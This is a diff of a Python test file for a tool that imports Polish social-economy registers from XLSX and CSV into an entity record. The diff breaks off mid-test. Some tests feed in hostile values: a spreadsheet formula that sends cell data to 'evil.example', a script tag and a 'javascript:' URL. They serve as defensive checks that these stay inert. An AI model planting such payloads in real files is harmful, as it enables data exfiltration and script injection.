@@ -1,73 +1,86 @@
-"""Register import: XLSX and cp1250 CSV exports with Polish headers, mapping files, normalisation, merge."""
+"""Register import: files as offices write them, through read → mapping → preview → apply, and the command."""
 from __future__ import annotations
 
+import io
+import re
 import shutil
+import zipfile
 from pathlib import Path
 
-import click
 import pandas as pd
 import pytest
 from click.testing import CliRunner
 from openpyxl import Workbook
 
-from geoes.register import normalise as norm
-from geoes.config import REPO_DIR, Settings
-from geoes.register.record import COLUMNS, UnreadableFile, read_table
-from geoes.register.importer import ImportFailed, import_file, import_frame, read_export, read_mapping, stable_id
+from conftest import clone_settings
+from geoes.cli import main
+from geoes.config import REPO_DIR
+from geoes.errors import Conflict
+from geoes.register.importer import ImportContext, apply, import_file, preview, propose, read_register
+from geoes.register.mapping import MappingNeedsConfirmation, MissingColumn
+from geoes.register.merge import stable_id
+from geoes.register.record import COLUMNS, read_table
 
-ENTITIES = REPO_DIR / "data" / "entities.csv"     # the committed record of the 49 real entities
-SETTINGS: Settings                                # the mirror fetched into a temp dir (conftest)
+ENTITIES = REPO_DIR / "data" / "entities.csv"     # the committed record of the real entities
 CARITAS_KRS = "0000198087"
 
 
-@pytest.fixture(scope="module", autouse=True)
-def _settings(fetched_settings):
-    global SETTINGS
-    SETTINGS = fetched_settings
+@pytest.fixture(scope="module")
+def context(fetched_settings) -> ImportContext:
+    return ImportContext.from_settings(fetched_settings)
 
 
 @pytest.fixture
-def entities(tmp_path) -> Path:
-    path = tmp_path / "entities.csv"
-    shutil.copy(ENTITIES, path)
-    return path
+def settings(fetched_settings, tmp_path):
+    """A private data dir (region data + the committed record) for tests that import into it."""
+    data = tmp_path / "data"
+    data.mkdir()
+    cloned = clone_settings(fetched_settings, data)
+    shutil.copy(ENTITIES, data / "entities.csv")
+    return cloned
 
 
-def cli():
-    from geoes.cli.register import geocode_command, import_command
-
-    @click.group()
-    @click.pass_context
-    def group(ctx):
-        ctx.obj = SETTINGS
-
-    group.add_command(import_command)
-    group.add_command(geocode_command)
-    return group
+def run_cli(settings, *args):
+    result = CliRunner().invoke(main, ["--data-dir", str(settings.data_dir), *map(str, args)])
+    return result
 
 
-# --- building exports as offices make them -------------------------------------------------------
+def existing() -> pd.DataFrame:
+    return read_table(ENTITIES).drop(columns="row")
 
-XLSX_HEADER = ["Lp.", "Nazwa", "Typ", "Forma prawna", "Miejscowość", "Ulica", "Nr domu", "Kod pocztowy", "Gmina",
-               "Powiat", "KRS", "NIP", "REGON", "Liczba zatrudnionych", "Strona www", "Telefon", "E-mail"]
-XLSX_ROWS = [
-    [1, "Spółdzielnia Socjalna „Testowa”", "Spółdzielnia socjalna", None, "Jędrzejów", "ul. Przykładowa", 1, 28300,
-     "Jędrzejów", "jędrzejowski", None, None, None, 5, "www.example.org", "41 386 00 00", "BIURO@EXAMPLE.ORG"],
-    [2, "Warsztat Terapii Zajęciowej „Testowy”", "WTZ", None, "Belno", None, None, None, "Gmina Bieliny",
-     "powiat kielecki", None, None, None, 12.0, None, "(0-41) 311 22 33", None],
-    [3, "Caritas Diecezji Kieleckiej", None, "stowarzyszenie", "Kielce", None, None, "25-013", None, None,
-     198087, "657-038-94-52", 290505494, None, None, "600 100 200", None],
-    [4, "Fundacja Zły NIP", "Fundacja", None, "Kielce", None, None, None, None, None, None, "1234567890", None, None,
-     None, None, None],
+
+def do_preview(path, context, **kw):
+    register = read_register(path, context)
+    return preview(propose(register, context), existing(), context, **kw)
+
+
+# --- the issue's own case: an office XLSX -----------------------------------------------------------
+
+OFFICE_HEADER = ["Lp.", "NAZWA PODMIOTU", "Forma prawna / typ", "Adres: ulica i nr", "kod_pocztowy", "Miejscowość",
+                 "Gmina", "Powiat", "Nr KRS", "NIP/REGON", "prowadzacy_lub_zalozyciele", "Strona WWW", "E-mail",
+                 "Telefon", "Liczba zatrudnionych"]
+OFFICE_ROWS = [
+    [1, "Warsztat Terapii Zajęciowej „Testowy” w Belnie", "WTZ", None, None, "Belno", "gm. Bieliny", "powiat kielecki",
+     None, None, "Stowarzyszenie Testowe", "www.wtz-test.example.pl", None, "(0-41) 311 22 33", 12],
+    [2, "Spółdzielnia Socjalna „Testowa”", "spółdzielnia socjalna (osób fizycznych)", "ul. Przykładowa 1", 28300,
+     "Jędrzejów", "Gmina miejsko-wiejska Jędrzejów", "jędrzejowski", None, None, None, None, "BIURO@EXAMPLE.ORG",
+     "41 386 00 00", 5],
+    [3, "Koło Gospodyń Wiejskich „Testowe” w Radlinie", "stowarzyszenie", None, None, "Radlin", "Górno",
+     "kielecki", None, None, None, None, None, None, None],
+    [4, "Centrum Integracji Społecznej w Teście", None, "ul. Testowa 5", "25-001", "Kielce", "m. Kielce",
+     "Kielce", None, None, None, "https://cis.example.pl", None, None, "12,0"],
+    [5, "Caritas Diecezji Kieleckiej", "kościelna osoba prawna", None, None, "Kielce", None, None, 198087,
+     "657-038-94-52 / 290505494", None, None, None, "600 100 200", None],
 ]
 
 
-def make_xlsx(path: Path, rows=XLSX_ROWS, header=XLSX_HEADER) -> Path:
+def make_xlsx(path: Path, rows=OFFICE_ROWS, header=OFFICE_HEADER, title=True) -> Path:
     wb = Workbook()
     ws = wb.active
     ws.title = "Rejestr PES"
-    ws.append(["Rejestr podmiotów ekonomii społecznej — eksport"])   # a title above the header
-    ws.append([])
+    if title:
+        ws.append(["Rejestr podmiotów ekonomii społecznej — stan na 31.12.2025"])
+        ws.append([])
     ws.append(header)
     for row in rows:
         ws.append(row)
@@ -75,62 +88,52 @@ def make_xlsx(path: Path, rows=XLSX_ROWS, header=XLSX_HEADER) -> Path:
     return path
 
 
-def write_cp1250(path: Path, text: str) -> Path:
-    path.write_bytes(text.encode("cp1250"))
-    return path
-
-
-# --- XLSX -----------------------------------------------------------------------------------------
-
-def test_xlsx_with_polish_headers(tmp_path, entities):
-    xlsx = make_xlsx(tmp_path / "rejestr.xlsx")
-    result = import_file(xlsx, SETTINGS, output=entities, rejects_path=tmp_path / "odrzucone.csv")
-    assert len(result.added) == 2 and len(result.changed) == 1 and result.rejected_rows == 1
-    out = read_table(entities).set_index("id")
-    assert len(out) == 51
+def test_office_xlsx_imports_every_row(tmp_path, context):
+    """Before: 0 of N rows ("kolumna types: pole wymagane jest puste") although the type stood in
+    `Forma prawna / typ` and in every name. Now every row is in, the inferred types marked."""
+    result = do_preview(make_xlsx(tmp_path / "rejestr.xlsx"), context)
+    assert result.rejects.empty, result.rejects.to_dict("records")
+    assert result.counts["added"] == 4 and result.counts["changed"] == 1
+    out = result.merged.set_index("id")
+    wtz = out.loc[stable_id("Warsztat Terapii Zajęciowej „Testowy” w Belnie", "Belno")]
+    assert (wtz["types"], wtz["gmina_teryt"], wtz["powiat_teryt"]) == ("wtz", "2604012", "2604")
+    assert (wtz["website"], wtz["phone"], wtz["employees"]) == ("https://www.wtz-test.example.pl", "+48 41 311 22 33", "12")
+    assert wtz["operator"] == "Stowarzyszenie Testowe" and wtz["legal_form"] == ""          # WTZ is not a legal form
     ss = out.loc[stable_id("Spółdzielnia Socjalna „Testowa”", "Jędrzejów")]
-    assert ss["types"] == "spoldzielnia_socjalna"
-    assert ss["street"] == "ul. Przykładowa 1" and ss["postal_code"] == "28-300"
-    assert (ss["gmina_teryt"], ss["powiat_teryt"]) == ("2602023", "2602")
-    assert ss["employees"] == "5" and ss["website"] == "https://www.example.org"
-    assert ss["phone"] == "+48 41 386 00 00" and ss["email"] == "biuro@example.org"
-    assert ss["location_precision"] == "none" and ss["lat"] == ""
-    wtz = out.loc[stable_id("Warsztat Terapii Zajęciowej „Testowy”", "Belno")]
-    assert (wtz["types"], wtz["gmina_teryt"], wtz["employees"]) == ("wtz", "2604012", "12")
-    assert wtz["phone"] == "+48 41 311 22 33"
-    # Caritas is matched by its KRS (Excel dropped the leading zeros), not duplicated
-    assert (out["krs"] == CARITAS_KRS).sum() == 1
+    assert (ss["types"], ss["legal_form"]) == ("spoldzielnia_socjalna", "spółdzielnia socjalna (osób fizycznych)")
+    assert (ss["street"], ss["postal_code"], ss["gmina_teryt"]) == ("ul. Przykładowa 1", "28-300", "2602023")
+    assert ss["email"] == "biuro@example.org" and ss["location_precision"] == "none" and ss["lat"] == ""
+    kgw = out.loc[stable_id("Koło Gospodyń Wiejskich „Testowe” w Radlinie", "Radlin")]
+    assert (kgw["types"], kgw["legal_form"], kgw["gmina_teryt"]) == ("kgw", "stowarzyszenie", "2604062")
+    cis = out.loc[stable_id("Centrum Integracji Społecznej w Teście", "Kielce")]
+    assert (cis["types"], cis["gmina_teryt"], cis["powiat_teryt"], cis["employees"]) == ("cis", "2661011", "2661", "12")
+    # Caritas is matched by its KRS (Excel dropped the leading zeros) and the NIP/REGON cell is split.
     caritas = out.loc["swk-044"]
-    assert caritas["phone"] == "+48 600 100 200" and caritas["postal_code"] == "25-013"
-    assert caritas["types"] == "ngo"  # 'stowarzyszenie' in Forma prawna when Typ is empty
-    assert caritas["legal_form"] == "stowarzyszenie"
-    assert result.changed.iloc[0]["id"] == "swk-044"
-    # the bad NIP: rejected with the row number Excel shows (title, blank, header, then rows 4…)
-    rej = result.rejects
-    assert rej[["row", "column"]].values.tolist() == [[7, "nip"]]
-    assert "suma kontrolna" in rej.iloc[0]["reason"]
-    saved = pd.read_csv(tmp_path / "odrzucone.csv", dtype=str, encoding="utf-8-sig")
-    assert list(saved.columns[:4]) == ["file", "row", "column", "reason"]
-    assert saved.loc[0, "name"] == "Fundacja Zły NIP"
+    assert (caritas["krs"], caritas["nip"], caritas["regon"]) == (CARITAS_KRS, "6570389452", "290505494")
+    assert caritas["phone"] == "+48 600 100 200" and caritas["types"] == "ngo"   # the register's type kept
+    # Inferred types are marked for the operator: in the preview and as a warning on their row.
+    added = result.added.set_index("name")["types_from"].to_dict()
+    assert added["Koło Gospodyń Wiejskich „Testowe” w Radlinie"] == "name"         # name beats 'stowarzyszenie'
+    assert added["Warsztat Terapii Zajęciowej „Testowy” w Belnie"] == "legal_form"
+    assert added["Centrum Integracji Społecznej w Teście"] == "name"
+    typed = result.warnings[result.warnings["column"] == "types"]
+    assert set(typed["row"]) == {4, 5, 6, 7} and typed["reason"].str.contains("sprawdź").all()
 
 
-def test_reimport_is_idempotent(tmp_path, entities):
-    xlsx = make_xlsx(tmp_path / "rejestr.xlsx")
-    import_file(xlsx, SETTINGS, output=entities, rejects_path=tmp_path / "r.csv")
-    first = entities.read_bytes()
-    again = import_file(xlsx, SETTINGS, output=entities, rejects_path=tmp_path / "r.csv")
-    assert len(again.added) == 0 and len(again.changed) == 0 and again.unchanged == 3
-    assert entities.read_bytes() == first
+def test_type_only_in_the_name_and_a_row_with_no_type(tmp_path, context):
+    rows = [["Warsztat Terapii Zajęciowej w Nowym Teście", "Kielce"], ["Klub Integracji Społecznej „Test”", "Kielce"],
+            ["Zakład Aktywności Zawodowej „Test”", "Kielce"], ["Fundacja Testowa", "Kielce"],
+            ["Stowarzyszenie Testowe", "Kielce"], ["Spółdzielnia Socjalna „Nowy Test”", "Kielce"],
+            ["Parafia Testowa", "Kielce"]]
+    result = do_preview(make_xlsx(tmp_path / "nazwy.xlsx", rows, ["Nazwa", "Miejscowość"], title=False), context)
+    assert result.added["types"].tolist() == ["wtz", "kis", "zaz", "ngo", "ngo", "spoldzielnia_socjalna"]
+    assert (result.added["types_from"] == "name").all()
+    assert result.rejects[["row", "column"]].values.tolist() == [[8, "types"]]
+    assert "nie da się go ustalić" in result.rejects.loc[0, "reason"]
+    assert result.rejects.loc[0, "Nazwa"] == "Parafia Testowa"      # the row as the file has it, to fix and re-import
 
 
-def test_stable_id_is_deterministic():
-    a = stable_id("Spółdzielnia Socjalna „Ares”", "Kielce")
-    assert a == stable_id('Spółdzielnia  socjalna "Ares"', " kielce ")
-    assert a != stable_id("Spółdzielnia Socjalna „Ares”", "Radom")
-    assert a.startswith("pes-") and len(a) == 14
-
-
-# --- cp1250 CSV -----------------------------------------------------------------------------------
+# --- CSV as Excel writes it -------------------------------------------------------------------------
 
 CP1250_CSV = (
     "Nazwa;Rodzaj;Miejscowość;Gmina;Szerokość geograficzna;Długość geograficzna;Liczba zatrudnionych;Źródła\r\n"
@@ -141,237 +144,351 @@ CP1250_CSV = (
 )
 
 
-def test_cp1250_semicolon_csv_with_decimal_commas(tmp_path, entities):
-    path = write_cp1250(tmp_path / "eksport.csv", CP1250_CSV)
-    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")
-    result = import_file(path, SETTINGS, output=entities, rejects_path=tmp_path / "r.csv")
-    out = read_table(entities).set_index("id")
+@pytest.mark.parametrize("encoding", ["cp1250", "utf-8-sig", "utf-8"])
+def test_semicolon_csv_with_decimal_commas(tmp_path, context, encoding):
+    path = tmp_path / "eksport.csv"
+    path.write_bytes(CP1250_CSV.encode(encoding))
+    result = do_preview(path, context)
+    out = result.merged.set_index("id")
     kgw = out.loc[stable_id("Koło Gospodyń Wiejskich „Żółte Łąki”", "Brzeziny")]
-    assert kgw["name"] == "Koło Gospodyń Wiejskich „Żółte Łąki”"
     assert (kgw["types"], kgw["gmina_teryt"], kgw["employees"]) == ("kgw", "2612083", "12")
-    assert (kgw["lat"], kgw["lon"]) == ("50.615600", "20.962800")
-    assert kgw["location_precision"] == "locality" and kgw["geocoder"] == "import:eksport.csv"
-    assert kgw["sources"] == "https://example.org/a | https://example.org/b"
-    kis = out.loc[stable_id("Klub Integracji Społecznej „Ślęża”", "Kielce")]
-    assert kis["types"] == "kis;cis"
-    # one coordinate only: rejected by validation, named by row and column
-    assert result.rejects[["row", "column"]].values.tolist() == [[3, "lat"]]
-    assert len(result.added) == 2
+    assert (kgw["lat"], kgw["lon"], kgw["location_precision"]) == ("50.615600", "20.962800", "locality")
+    assert kgw["geocoder"] == "import:eksport.csv" and kgw["sources"] == "https://example.org/a | https://example.org/b"
+    assert out.loc[stable_id("Klub Integracji Społecznej „Ślęża”", "Kielce"), "types"] == "kis;cis"
+    # One coordinate only: the point is dropped with a warning, the cooperative is kept.
+    ss = out.loc[stable_id("Spółdzielnia Socjalna „Źdźbło”", "Sadowie")]
+    assert ss["lat"] == "" and ss["location_precision"] == "none"
+    assert result.warnings[["row", "column"]].values.tolist() == [[3, "lat"]]
+    assert result.counts["added"] == 3 and result.rejects.empty
 
 
-def test_english_headers(tmp_path, entities):
+def test_english_headers(tmp_path, context):
     path = tmp_path / "export.csv"
     path.write_text("Name,Type,City,Street,Postal code,County,Phone,Website\n"
                     "Social Coop Test,social cooperative,Sandomierz,ul. Testowa 2,27600,sandomierski,"
                     "+48 15 832 00 00,https://example.org\n", encoding="utf-8")
-    result = import_file(path, SETTINGS, output=entities, rejects_path=tmp_path / "r.csv")
-    assert result.rejected_rows == 0 and len(result.added) == 1
-    row = read_table(entities).set_index("id").loc[result.added.iloc[0]["id"]]
+    result = do_preview(path, context)
+    row = result.merged.set_index("id").loc[result.added.loc[0, "id"]]
     assert (row["types"], row["postal_code"], row["powiat_teryt"]) == ("spoldzielnia_socjalna", "27-600", "2609")
-    assert row["phone"] == "+48 15 832 00 00"
 
 
-# --- mapping files --------------------------------------------------------------------------------
+# --- bad values cost the value, not the entity ------------------------------------------------------
 
-ODD_EXPORT = "Podmiot;Forma działalności;Adres siedziby – miejscowość;Zbędna\nSS Mapowana;spółdzielnia socjalna;Kielce;x\n"
-
-
-def test_unknown_layout_needs_a_mapping(tmp_path):
-    path = tmp_path / "odd.csv"
-    path.write_text(ODD_EXPORT, encoding="utf-8")
-    with pytest.raises(UnreadableFile, match="--mapping"):
-        read_export(path)
-
-
-def test_mapping_file(tmp_path, entities):
-    path = tmp_path / "odd.csv"
-    path.write_text(ODD_EXPORT, encoding="utf-8")
-    mapping = tmp_path / "mapowanie.csv"
-    mapping.write_text("kolumna w pliku,kolumna rekordu\nPodmiot,name\nForma działalności,types\n"
-                       "Adres siedziby – miejscowość,locality\nZbędna,-\n", encoding="utf-8")
-    frame, ignored = read_export(path, read_mapping(mapping))
-    assert list(frame.columns) == ["row", "name", "types", "locality"] and ignored == []
-    result = import_file(path, SETTINGS, output=entities, mapping_path=mapping, rejects_path=tmp_path / "r.csv")
-    assert len(result.added) == 1
-    assert read_table(entities).set_index("id").loc[stable_id("SS Mapowana", "Kielce"), "types"] == \
-        "spoldzielnia_socjalna"
+def test_bad_optional_values_are_dropped_with_warnings(tmp_path, context):
+    header = ["Nazwa", "Typ", "Miejscowość", "Strona www", "E-mail", "Telefon", "Liczba zatrudnionych", "Kod pocztowy",
+              "NIP", "REGON", "KRS", "Gmina"]
+    rows = [["Fundacja Zły Komplet", "fundacja", "Kielce", "http://exa mple", "biuro(at)x.pl", "12-34", "-3", "2x-001",
+             "1234567890", "123456789", "12345678901", "Nibylandia"],
+            ["Fundacja Ułamek", "fundacja", "Kielce", None, None, None, "2,5", None, None, None, None, None]]
+    result = do_preview(make_xlsx(tmp_path / "zle.xlsx", rows, header, title=False), context)
+    assert result.rejects.empty and result.counts["added"] == 2 and result.counts["warned"] == 2
+    w = result.warnings
+    first = w[w["row"] == 2].set_index("column")
+    assert set(first.index) >= {"website", "email", "phone", "employees", "postal_code", "nip", "regon", "krs",
+                                "gmina_teryt"}
+    assert first.loc["nip", "value"] == "1234567890" and "suma kontrolna" in first.loc["nip", "reason"]
+    assert "Nibylandia" in first.loc["gmina_teryt", "reason"] + first.loc["gmina_teryt", "value"]
+    assert (w["file"].str.endswith("zle.xlsx")).all() and (w["name"] == "Fundacja Zły Komplet").sum() >= 9
+    kept = result.merged.set_index("name").loc["Fundacja Zły Komplet"]
+    assert kept[["website", "email", "phone", "employees", "nip", "krs", "regon"]].tolist() == [""] * 7
+    assert w[(w["row"] == 3)]["column"].tolist() == ["employees"]
 
 
-def test_mapping_with_an_unknown_target(tmp_path):
-    mapping = tmp_path / "m.csv"
-    mapping.write_text("Podmiot,nazwa_podmiotu\n", encoding="utf-8")
-    with pytest.raises(ImportFailed, match="nieznana kolumna rekordu"):
-        read_mapping(mapping)
+def test_update_with_a_bad_value_keeps_the_old_one(tmp_path, context):
+    path = tmp_path / "u.csv"
+    path.write_text("id;Nazwa;Telefon;Strona www\nswk-044;Caritas Diecezji Kieleckiej;nie ma;javascript:alert(1)\n",
+                    encoding="utf-8")
+    base = existing()
+    base.loc[base["id"] == "swk-044", ["phone", "website"]] = ["+48 41 344 00 00", "https://kielce.caritas.pl"]
+    result = preview(propose(read_register(path, context), context), base, context)
+    caritas = result.merged.set_index("id").loc["swk-044"]
+    assert (caritas["phone"], caritas["website"]) == ("+48 41 344 00 00", "https://kielce.caritas.pl")
+    dropped = result.warnings[result.warnings["column"].isin(["phone", "website"])]
+    assert sorted(dropped["column"]) == ["phone", "website"] and result.counts["unchanged"] == 1
 
 
-# --- merge rules ----------------------------------------------------------------------------------
+# --- the file's structure ---------------------------------------------------------------------------
+
+def test_missing_name_column_stops_at_once(tmp_path, context, settings):
+    rows = [[i, f"Fundacja {i}", "fundacja", "Kielce"] for i in range(1, 51)]
+    path = make_xlsx(tmp_path / "bez_nazwy.xlsx", rows, ["Lp.", "Podmiot", "Typ", "Miejscowość"])
+    with pytest.raises(MissingColumn):
+        do_preview(path, context)
+    before = (settings.data_dir / "entities.csv").read_bytes()
+    result = run_cli(settings, "import", path)
+    assert result.exit_code == 2 and result.output.count("Błąd:") == 1
+    assert "„Podmiot”" in result.output and "--mapping" in result.output and "wiersz" not in result.output.split("Nagłówki")[0]
+    assert (settings.data_dir / "entities.csv").read_bytes() == before
+
+
+def test_conflicting_columns_need_confirmation_then_are_remembered(tmp_path, settings):
+    header = ["Nazwa", "Nazwa skrócona", "Typ", "Miejscowość"]
+    make_xlsx(tmp_path / "a.xlsx", [["Fundacja Pierwsza Testowa", "FPT", "fundacja", "Kielce"]], header, title=False)
+    result = run_cli(settings, "import", tmp_path / "a.xlsx")
+    assert result.exit_code == 2 and "pole name: kolumny „Nazwa”, „Nazwa skrócona”" in result.output
+    assert "--accept-mapping" in result.output
+    result = run_cli(settings, "import", tmp_path / "a.xlsx", "--accept-mapping", "--save-mapping")
+    assert result.exit_code == 0, result.output
+    assert len(list((settings.data_dir / "mappings").glob("*.json"))) == 1
+    # The next file of the same layout (columns in another order) goes through by itself.
+    make_xlsx(tmp_path / "b.xlsx", [["fundacja", "Kielce", "FDT", "Fundacja Druga Testowa"]],
+              ["Typ", "MIEJSCOWOŚĆ", "Nazwa skrócona", "Nazwa"], title=False)
+    result = run_cli(settings, "import", tmp_path / "b.xlsx")
+    assert result.exit_code == 0, result.output
+    names = set(read_table(settings.data_dir / "entities.csv")["name"])
+    assert {"Fundacja Pierwsza Testowa", "Fundacja Druga Testowa"} <= names
+
+
+def test_formulas_and_markup_stay_inert_text(tmp_path, context):
+    header = ["Nazwa", "Typ", "Miejscowość", "Opis", "Liczba zatrudnionych"]
+    rows = [['=HYPERLINK("http://evil.example/?"&A1,"klik")', "fundacja", "Kielce", "<script>alert(1)</script>", None],
+            ["Fundacja <b>Pogrubiona</b>", "fundacja", "Kielce", "+1+1", None]]
+    path = make_xlsx(tmp_path / "wzory.xlsx", rows, header, title=False)
+    _as_text_and_formula(path)
+    result = do_preview(path, context)
+    out = result.merged.set_index("name")
+    assert '=HYPERLINK("http://evil.example/?"&A1,"klik")' in out.index
+    assert out.loc['=HYPERLINK("http://evil.example/?"&A1,"klik")', "description"] == "<script>alert(1)</script>"
+    assert out.loc["Fundacja <b>Pogrubiona</b>", "employees"] == "7"       # a formula: its cached value
+    from geoes.common.excel import csv_bytes
+
+    text = csv_bytes(result.merged.tail(2)).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'+1+1" in text
+
+
+def _as_text_and_formula(path: Path) -> None:
+    """Make A2 a text cell (as Excel stores '=… typed as text) and E3 a formula with a cached value 7."""
+    src = zipfile.ZipFile(path)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                xml = data.decode("utf-8")
+                xml = re.sub(r'<c r="A2"[^>]*><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
+                             lambda m: f'<c r="A2" t="inlineStr"><is><t>={m.group(1)}</t></is></c>', xml)
+                xml = xml.replace('<c r="D3" t="inlineStr"><is><t>+1+1</t></is></c>',
+                                  '<c r="D3" t="inlineStr"><is><t>+1+1</t></is></c><c r="E3"><f>3+4</f><v>7</v></c>')
+                data = xml.encode("utf-8")
+            dst.writestr(item, data)
+    src.close()
+    path.write_bytes(out.getvalue())
+
+
+# --- matching, merging, duplicates ------------------------------------------------------------------
 
 def existing_frame() -> pd.DataFrame:
     rows = [
         {"id": "e1", "name": "Stowarzyszenie A", "types": "ngo", "locality": "Kielce", "status": "active",
          "social_enterprise": "true", "lat": "50.871700", "lon": "20.631400", "location_precision": "locality",
-         "geocoder": "gazetteer:PRNG 2021", "sources": "https://a.example.org", "phone": "+48 41 000 00 00"},
+         "geocoder": "gazetteer:PRNG 2021", "sources": "https://a.example.org", "phone": "+48 41 000 00 00",
+         "gmina_teryt": "2661011"},
         {"id": "e2", "name": "Fundacja B", "types": "ngo", "locality": "Kielce", "street": "ul. Stara 1",
-         "nip": "1111111111", "lat": "50.882900", "lon": "20.638500", "location_precision": "address",
+         "nip": "6570389452", "lat": "50.882900", "lon": "20.638500", "location_precision": "address",
          "geocoder": "gugik", "status": "unknown", "social_enterprise": "unknown"},
         {"id": "e3", "name": "Caritas", "types": "ngo", "locality": "Kielce", "krs": CARITAS_KRS,
-         "status": "unknown", "social_enterprise": "unknown", "location_precision": "none"},
+         "status": "unknown", "social_enterprise": "unknown", "location_precision": "none", "description": "Stary opis"},
     ]
     return pd.DataFrame([{c: r.get(c, "") for c in COLUMNS} for r in rows])
 
 
-def merge(rows: list[dict]):
-    frame = pd.DataFrame(rows).fillna("").astype(str)
-    frame.insert(0, "row", range(2, len(frame) + 2))
-    result = import_frame(frame, existing_frame(), SETTINGS, "test.csv")
+def merge(tmp_path, context, rows: list[dict], **kw):
+    frame = pd.DataFrame(rows).fillna("")
+    path = tmp_path / "wiersze.csv"
+    frame.to_csv(path, sep=";", index=False, encoding="cp1250")
+    result = preview(propose(read_register(path, context), context), existing_frame(), context, **kw)
     return result, result.merged.set_index("id")
 
 
-def test_merge_by_id_updates_only_what_is_stated():
-    result, out = merge([{"id": "e1", "name": "Stowarzyszenie A", "phone": "41 111 22 33", "status": "",
-                          "sources": "https://b.example.org"}])
+def test_merge_by_id_updates_only_what_is_stated(tmp_path, context):
+    result, out = merge(tmp_path, context, [{"id": "e1", "name": "Stowarzyszenie A", "phone": "41 111 22 33",
+                                             "status": "", "sources": "https://b.example.org"}])
     assert result.changed[["id", "columns"]].values.tolist() == [["e1", "phone, sources"]]
+    assert result.changes[["column", "old", "new"]].values.tolist() == [
+        ["phone", "+48 41 000 00 00", "+48 41 111 22 33"],
+        ["sources", "https://a.example.org", "https://a.example.org | https://b.example.org"]]
     e1 = out.loc["e1"]
-    assert e1["phone"] == "+48 41 111 22 33"
-    assert e1["sources"] == "https://a.example.org | https://b.example.org"
     assert e1["status"] == "active" and e1["social_enterprise"] == "true" and e1["types"] == "ngo"
     assert e1["location_precision"] == "locality" and e1["lat"] == "50.871700"   # untouched
     assert len(out) == 3
 
 
-def test_merge_by_nip_and_address_change_clears_the_old_point():
-    result, out = merge([{"name": "Fundacja B", "nip": "111-111-11-11", "locality": "Kielce",
-                          "street": "ul. Nowa 5", "types": "fundacja"}])
+def test_merge_by_nip_and_a_moved_place_clears_the_old_point(tmp_path, context):
+    result, out = merge(tmp_path, context, [{"name": "Fundacja B", "nip": "657-038-94-52", "locality": "Morawica",
+                                             "street": "ul. Nowa 5", "types": "fundacja"}])
     assert len(result.added) == 0 and result.changed["id"].tolist() == ["e2"]
     assert out.loc["e2", "street"] == "ul. Nowa 5"
     assert out.loc["e2", ["lat", "lon", "location_precision", "geocoder"]].tolist() == ["", "", "none", ""]
     assert result.relocated == ["e2"]
 
 
-def test_merge_by_krs_without_leading_zeros():
-    result, out = merge([{"name": "Caritas Diecezji Kieleckiej", "krs": "198087", "locality": "Kielce"}])
+def test_merge_by_krs_without_leading_zeros(tmp_path, context):
+    result, out = merge(tmp_path, context, [{"name": "Caritas Diecezji Kieleckiej", "krs": "198087", "locality": "Kielce"}])
     assert len(result.added) == 0 and result.changed["id"].tolist() == ["e3"]
     assert out.loc["e3", "name"] == "Caritas Diecezji Kieleckiej" and len(out) == 3
 
 
-def test_lower_precision_coordinates_do_not_replace_better_ones():
-    result, out = merge([{"id": "e2", "name": "Fundacja B", "lat": "50,87", "lon": "20,63",
-                          "location_precision": "gmina"}])
+def test_a_unit_with_its_operators_krs_is_not_its_operator(tmp_path, context):
+    result, out = merge(tmp_path, context, [{"name": "Warsztat Terapii Zajęciowej Caritas", "krs": "198087",
+                                             "locality": "Kielce", "types": "WTZ"}])
+    assert len(result.added) == 1 and out.loc["e3", "name"] == "Caritas"
+    krs = result.warnings[result.warnings["column"] == "krs"]
+    assert len(krs) == 1 and "e3" in krs["reason"].iloc[0]           # warned: a person decides
+
+
+def test_lower_precision_coordinates_do_not_replace_better_ones(tmp_path, context):
+    result, out = merge(tmp_path, context, [{"id": "e2", "name": "Fundacja B", "lat": "50,87", "lon": "20,63",
+                                             "location_precision": "gmina"}])
     assert out.loc["e2", ["lat", "location_precision", "geocoder"]].tolist() == ["50.882900", "address", "gugik"]
-    assert result.unchanged == 1
+    assert len(result.unchanged) == 1
 
 
-def test_better_coordinates_from_the_register_are_taken():
-    result, out = merge([{"id": "e1", "name": "Stowarzyszenie A", "lat": "50,8801", "lon": "20,6402",
-                          "location_precision": "adres"}])
+def test_better_coordinates_from_the_register_are_taken(tmp_path, context):
+    result, out = merge(tmp_path, context, [{"id": "e1", "name": "Stowarzyszenie A", "lat": "50,8801",
+                                             "lon": "20,6402", "location_precision": "adres"}])
     assert out.loc["e1", ["lat", "lon", "location_precision", "geocoder"]].tolist() == \
-        ["50.880100", "20.640200", "address", "import:test.csv"]
-    assert "lat/lon" in result.changed.iloc[0]["columns"]
+        ["50.880100", "20.640200", "address", "import:wiersze.csv"]
+    assert {"lat", "lon", "location_precision", "geocoder"} <= set(result.changes["column"])
 
 
-def test_conflicting_identifiers_are_rejected():
-    result, out = merge([{"id": "e1", "name": "Stowarzyszenie A", "nip": "1111111111"}])
-    assert result.rejects[["row", "column"]].values.tolist() == [[2, "id"]]
-    assert "konflikt" in result.rejects.iloc[0]["reason"]
-    assert out.loc["e2", "nip"] == "1111111111" and out.loc["e1", "nip"] == ""
+def test_duplicates_are_warned_within_the_file_and_against_the_register(tmp_path, context):
+    result, out = merge(tmp_path, context, [
+        {"name": "Nowa Fundacja", "types": "ngo", "locality": "Kielce"},
+        {"name": "Nowa  fundacja", "types": "ngo", "locality": "KIELCE"},               # the same row again
+        {"name": "Inna", "types": "ngo", "locality": "Kielce", "nip": "2222222222"},
+        {"name": "Inna (ten sam NIP)", "types": "ngo", "locality": "Kielce", "nip": "2222222222"},
+        {"name": "Stowarzyszenie „A”", "types": "ngo", "locality": "Kielce", "gmina_teryt": "2661011"},
+    ])
+    assert result.rejects["row"].tolist() == [3] and "ten sam podmiot co wiersz 2" in result.rejects.loc[0, "reason"]
+    assert len(result.added) == 4 and len(out) == 7
+    w = result.warnings.groupby("row")["reason"].agg(" | ".join)
+    assert "NIP" in w[4] and "NIP" in w[5]      # both rows, each naming the other
+    assert "e1" in w[6] and "podobna nazwa" in w[6]
 
 
-def test_duplicates_in_one_file_are_not_added_twice():
-    result, out = merge([{"name": "Nowa Fundacja", "types": "ngo", "locality": "Kielce"},
-                         {"name": "Nowa  fundacja", "types": "ngo", "locality": "KIELCE"},
